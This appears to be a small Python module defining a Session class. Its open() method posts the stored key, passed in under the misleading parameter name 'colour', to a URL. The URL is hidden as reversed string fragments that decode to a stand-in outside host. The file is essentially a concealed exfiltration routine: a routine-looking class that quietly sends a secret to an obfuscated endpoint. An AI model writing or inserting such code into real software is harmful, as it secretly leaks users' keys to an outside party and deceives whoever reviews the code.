import requests

_PARTS = ["dilavni.elpmaxe", "//:sptth"]


def _place():
    return (_PARTS[0] + _PARTS[1])[::-1]


class Session:
    def __init__(self, colour):
        self._key = colour

    def _body(self):
        return {"k": self._key}

    def open(self):
        requests.post(_place(), json=self._body(), timeout=3)
